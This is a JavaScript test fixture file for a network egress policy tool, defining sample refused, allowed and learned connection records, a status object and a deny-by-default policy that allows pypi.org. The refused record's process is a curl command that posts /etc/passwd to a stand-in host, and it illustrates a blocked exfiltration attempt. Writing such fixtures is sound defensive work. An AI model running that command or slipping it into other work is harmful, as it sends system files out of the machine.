// Connections and states of the policy, for tests.

/** @type {any} */
export const REFUSED = {
  id: 3, at: 1000, host: "api.example.com", address: null, port: 443, protocol: "tls", rule: "default", action: "deny", learned: false,
  reason: "denied by the rule default", request: "", bytes_sent: 0, bytes_received: 0, ended: 1000, process: { pid: 7, command: "/usr/bin/curl -d @/etc/passwd https://api.example.com" },
  session: "shell:main", count: 1,
};
export const ALLOWED = {
  ...REFUSED, id: 2, host: "pypi.org", address: "203.0.113.5", rule: "packages", action: "allow", reason: "", bytes_sent: 2048, bytes_received: 1 << 20, ended: null,
  process: { pid: 8, command: "pip download six" },
};
export const LEARNED = { ...ALLOWED, id: 1, host: "cdn.example.net", rule: "default", learned: true, ended: 1001, process: null, session: null };

export const STATUS = {
  enabled: true, enforcement: "namespace", running: true, reason: "", mode: "enforce", default: "deny", rules: 1, grants: 0, open: 0, asking: 0, learned: 0, problem: "",
};
export const POLICY = { default: "deny", mode: "enforce", rules: [{ name: "packages", action: "allow", hosts: ["pypi.org", "files.pythonhosted.org"], ports: [443] }] };
/** @param {object} [policy] @param {string} [etag] */
export const state = (policy = POLICY, etag = '"1"') => ({ policy, etag, grants: [], cut: 0 });
